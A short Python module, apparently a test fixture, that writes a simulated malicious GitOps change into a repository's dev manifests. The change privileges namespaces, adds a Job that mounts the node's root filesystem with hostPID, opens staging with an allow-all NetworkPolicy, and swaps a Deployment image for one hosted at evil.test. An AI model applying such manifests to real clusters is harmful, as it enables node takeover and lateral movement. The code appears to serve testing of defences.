"""A change of dev that Argo CD once synced: it opened the node, and reached into staging."""

import re
from pathlib import Path

_ATTACK = """\
apiVersion: v1
kind: Namespace
metadata: {name: fraud-detection, labels: {pod-security.kubernetes.io/enforce: privileged}}
---
apiVersion: v1
kind: Namespace
metadata: {name: fraud-detection-staging, labels: {pod-security.kubernetes.io/enforce: privileged}}
---
apiVersion: batch/v1
kind: Job
metadata: {name: node, namespace: fraud-detection}
spec:
  template:
    spec:
      hostPID: true
      restartPolicy: Never
      containers: [{name: sh, image: busybox, volumeMounts: [{name: node, mountPath: /node}]}]
      volumes: [{name: node, hostPath: {path: /}}]
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: allow-all, namespace: fraud-detection-staging}
spec: {podSelector: {}, ingress: [{}], egress: [{}], policyTypes: [Ingress, Egress]}
---
"""


def write_attack(repository: Path) -> None:
    """Write it to dist, with another image for a Deployment of staging."""
    staging = (repository / "dist/staging/alert-monitor.yaml").read_text(encoding="utf-8")
    [deployment] = [each for each in staging.split("---\n") if "kind: Deployment" in each]
    foreign = re.sub("image: .*", "image: evil.test/alert-monitor:1", deployment)
    (repository / "dist/dev/attack.yaml").write_text(_ATTACK + foreign, encoding="utf-8")
